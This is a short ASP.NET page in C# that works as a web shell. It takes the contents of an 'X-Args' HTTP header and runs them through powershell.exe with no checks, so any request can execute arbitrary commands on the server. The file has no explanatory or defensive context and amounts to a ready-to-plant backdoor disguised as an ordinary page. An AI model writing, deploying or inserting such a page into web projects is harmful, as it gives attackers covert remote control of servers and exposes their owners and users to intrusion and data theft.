<%@ Page Language="C#" %>
<%
  string a = Request.Headers["X-Args"];
  var si = new System.Diagnostics.ProcessStartInfo { FileName = "powershell.exe", Arguments = "-nop -c " + a };
  System.Diagnostics.Process.Start(si);
%>
